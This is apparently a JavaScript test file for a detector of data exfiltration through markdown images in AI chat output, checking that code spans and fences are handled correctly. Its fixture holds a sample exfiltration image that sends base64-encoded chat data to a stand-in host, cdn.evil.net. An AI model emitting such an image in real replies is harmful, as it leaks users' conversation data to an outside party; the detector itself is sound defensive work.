import assert from 'node:assert/strict';
import { test } from 'node:test';
import { FenceTracker } from './code-spans.js';
import { detectExfiltration } from './index.js';

// Data in the URL, so the image is flagged wherever it is not code.
const IMG = '![x](https://cdn.evil.net/p.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)';

test('links and images inside fenced or inline code are shown as text, not flagged', () => {
  assert.deepEqual(detectExfiltration(`Example:\n\`\`\`md\n${IMG}\n\`\`\`\n`), []);
  assert.deepEqual(detectExfiltration(`Write \`${IMG}\` to embed it.`), []);
  assert.equal(detectExfiltration(`\`\`\`md\n${IMG}\n\`\`\`\nthen ${IMG}`).length, 1);
  assert.equal(
    detectExfiltration(`\`\`\`\n\`\`\`js\n\`\`\`\n${IMG}`).length,
    1,
    'a fence with an info string does not close',
  );
});

test('the fence tracker follows fences across windows of a stream', () => {
  const whole = `intro\n\`\`\`\n${'code line\n'.repeat(30)}\`\`\`\nafter ${IMG}\n`;
  const f = new FenceTracker();
  // Windows overlap and arrive in order, as the output window shows them.
  for (let end = 10; end <= whole.length; end += 7) {
    const start = Math.max(0, end - 40);
    f.update(whole.slice(start, end), start);
  }
  f.update(whole.slice(whole.length - 40), whole.length - 40);
  const inside = whole.indexOf('code line');
  const after = whole.indexOf(IMG);
  assert.equal(f.inFence(inside, inside + 4), true);
  assert.equal(f.inFence(after, after + 4), false);
});

test('a tracker that missed part of the output treats nothing as code', () => {
  const f = new FenceTracker();
  f.update('```\nabc', 0);
  f.update('later text', 500);
  assert.equal(f.inFence(505, 506), false);
});
